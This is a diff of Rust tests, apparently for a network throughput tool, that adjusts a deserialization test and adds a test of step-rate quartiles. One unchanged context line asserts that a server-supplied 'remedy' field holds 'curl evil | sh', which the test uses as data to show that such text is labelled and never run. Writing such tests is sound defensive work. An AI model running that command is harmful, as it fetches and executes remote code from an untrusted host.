@@ -204,7 +204,10 @@ fn all_keys_of_an_only_leg_stand_in_the_record_too() {
     // What is read is the leg.
     let mut changed = json.clone();
     changed["bytes"] = 7.into();
-    assert_eq!(serde_json::from_value::<Record>(changed).unwrap(), record);
+    let mut read: Record = serde_json::from_value(changed).unwrap();
+    // Commands are not read back.
+    crate::ceilings::annotate(&mut read);
+    assert_eq!(read, record);
 }
 
 #[test]
@@ -276,4 +279,22 @@ fn what_the_other_end_says_is_labelled_and_no_command() {
     let json = serde_json::to_value(&record).unwrap();
     assert_eq!(json["caveats"][0]["remedy"], "curl evil | sh");
     assert_eq!(json["caveats"][0]["end"], "server");
+}
+
+/// A second in 20 steps, of which a few were disturbed.
+#[test]
+fn the_quartiles_of_the_steps_are_those_of_an_even_rate_that_others_disturb_at_times() {
+    let mut receiver = flow(Direction::Up, false, 1_000_000);
+    receiver.steps = (1..=20).map(|n| (n * 50_000, n * 50_000)).collect();
+    receiver.steps[9].1 -= 40_000;
+    let halves = |flow| {
+        let server = half(vec![flow], "b");
+        let client = half(vec![self::flow(Direction::Up, true, 1_000_000)], "a");
+        let record = record(test(Protocol::Tcp, Direction::Up), client, Some(server));
+        record.legs[0].steps
+    };
+    let steps = halves(receiver.clone()).expect("twenty are enough");
+    assert_eq!([steps.p25_bps, steps.p50_bps, steps.p75_bps], [8e6; 3]);
+    receiver.steps.truncate(10);
+    assert_eq!(halves(receiver), None);
 }
